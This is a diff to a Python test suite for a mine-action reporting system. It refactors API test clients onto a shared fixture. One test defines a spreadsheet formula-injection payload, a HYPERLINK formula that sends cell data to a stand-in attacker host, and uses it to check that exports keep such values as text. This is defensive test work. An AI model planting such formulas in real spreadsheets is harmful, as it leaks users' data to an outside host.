@@ -19,7 +19,6 @@ import matplotlib.pyplot as plt
 import pypdfium2 as pdfium
 import pypdfium2.raw as pdfium_c
 import pytest
-from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 from pyproj import Geod
 from shapely.geometry import MultiPolygon, box
@@ -27,8 +26,6 @@ from sqlalchemy import Engine, text
 from sqlalchemy.orm import Session
 from typer.testing import CliRunner
 
-from ims.api.deps import get_session
-from ims.app import create_app
 from ims.cli import app as cli_app
 from ims.config import get_settings
 from ims.db.recording import load_boundaries, record_hazards, record_releases
@@ -43,7 +40,7 @@ from ims.reports.history import article7_with_history, summary
 from ims.reports.pdf import remaining_map
 from ims.reports.progress import Weights, article4_series, marking, priorities
 from ims.reports.workplan import set_targets, workplan_report
-from tests.conftest import authorise
+from tests.utils import ClientAs
 
 GEOD = Geod(ellps="WGS84")
 ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
@@ -76,14 +73,6 @@ def data(session: Session) -> Session:
                    items={"BLU-26": 7}),
     ])  # fmt: skip
     return session
-
-
-def client_for(session: Session) -> TestClient:
-    app = create_app(session.get_bind())  # type: ignore[arg-type]
-    app.dependency_overrides[get_session] = lambda: session
-    client = TestClient(app)
-    authorise(client, session)
-    return client
 
 
 def test_xlsx_reads_back_with_the_numbers_of_the_json_report(data: Session) -> None:
@@ -398,8 +387,8 @@ def test_bad_work_plan_rows_name_row_and_field_and_write_nothing(data: Session) 
     assert data.scalar(text("SELECT count(*) FROM work_plan_target")) == 0
 
 
-def test_api_serves_each_export_with_its_media_type(data: Session) -> None:
-    client = client_for(data)
+def test_api_serves_each_export_with_its_media_type(data: Session, client_as: ClientAs) -> None:
+    client = client_as()
     xlsx = client.get("/api/v1/reports/article7", params={"year": 2022, "format": "xlsx"})
     assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
     assert load_workbook(io.BytesIO(xlsx.content)).sheetnames[0] == "Form 1(h)"
@@ -448,7 +437,9 @@ def test_cli_binary_formats_need_a_file_and_work_plan_import_is_all_or_nothing(
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
 
 
-def test_a_formula_in_the_data_stays_text_in_every_spreadsheet(session: Session) -> None:
+def test_a_formula_in_the_data_stays_text_in_every_spreadsheet(
+    session: Session, client_as: ClientAs
+) -> None:
     # A reference written as a formula was run by spreadsheet programs from the priorities
     # XLSX and CSV (issue 13, item 11); names from boundaries reach the Article 7 exports.
     load_boundaries(session, [
@@ -459,7 +450,7 @@ def test_a_formula_in_the_data_stays_text_in_every_spreadsheet(session: Session)
         NewHazard(FORMULA, HazardStatus.CHA, box(*H1), dt.date(2020, 1, 1)),
         NewHazard("@SUM(1)", HazardStatus.SHA, second, dt.date(2020, 1, 1)),
     ])  # fmt: skip
-    client = client_for(session)
+    client = client_as()
     book = load_workbook(io.BytesIO(client.get(
         "/api/v1/reports/priorities", params={"format": "xlsx"}).content))  # fmt: skip
     cells = [c for row in book.active.iter_rows() for c in row]  # type: ignore[union-attr]
